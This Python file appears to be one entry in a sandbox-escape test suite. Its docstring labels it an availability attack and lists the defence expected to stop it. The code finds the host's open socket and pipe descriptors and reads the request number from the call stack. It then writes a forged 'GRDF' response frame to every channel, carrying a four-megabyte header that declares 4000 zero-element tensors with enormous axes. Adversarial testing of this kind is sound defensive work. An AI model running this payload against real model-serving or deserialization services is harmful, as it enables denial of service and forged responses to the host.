"""
number = 68
family = "availability"
what = "send four megabytes that declare tensors of no element, with enormous other axes"
stopped_by = ["caps on tensors and on products of axes"]
verdicts = {full = ["bad_return", "passed"], contained = ["bad_return", "passed"], limited = ["bad_return", "passed"]}
"""

import json
import os
import stat
import struct
import sys


def channels() -> list[int]:
    found = []
    for number in range(3, 65):
        try:
            mode = os.fstat(number).st_mode
        except OSError:
            continue
        if stat.S_ISSOCK(mode) or stat.S_ISFIFO(mode):
            found.append(number)
    return found


def request_number() -> int:
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            table = value if isinstance(value, dict) else getattr(value, "header", None)
            if isinstance(table, dict) and isinstance(table.get("n"), int):
                return table["n"]
        frame = frame.f_back
    return 0


def attack(targets: dict) -> str:
    shape = [0] + [(1 << 48) - 1] * 11
    table = {f"t{index}": {"dtype": "F32", "shape": shape, "data_offsets": [0, 0]} for index in range(4000)}
    inner = json.dumps(table).encode()
    blob = struct.pack("<Q", len(inner)) + inner
    node = {
        "$tensor": "t0",
        "as": "tensor",
        "dtype": "float32",
        "shape": shape,
        "device": "cpu",
        "requires_grad": False,
    }
    header = json.dumps({"n": request_number(), "ok": node}).encode()
    for number in channels():
        left = memoryview(b"GRDF" + struct.pack("<IIQ", 1, len(header), len(blob)) + header + blob)
        while left:
            left = left[os.write(number, left[: 1 << 18]) :]
    return "stopped: behind a forged answer"
